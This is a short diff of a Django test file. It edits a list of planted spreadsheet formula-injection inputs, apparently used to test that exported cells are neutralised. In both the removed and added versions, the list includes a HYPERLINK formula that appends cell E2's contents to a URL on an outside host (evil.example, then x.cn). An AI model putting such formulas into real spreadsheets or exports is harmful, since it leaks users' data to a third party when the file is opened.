@@ -16,7 +16,7 @@ from welfare.tests.factories import make_file
 
 pytestmark = pytest.mark.django_db
 
-PLANTED = ['=HYPERLINK("http://evil.example/?"&E2,"点这里")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+PLANTED = ['=HYPERLINK("http://x.cn/"&E2)', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
 
 
 def _cells(response):
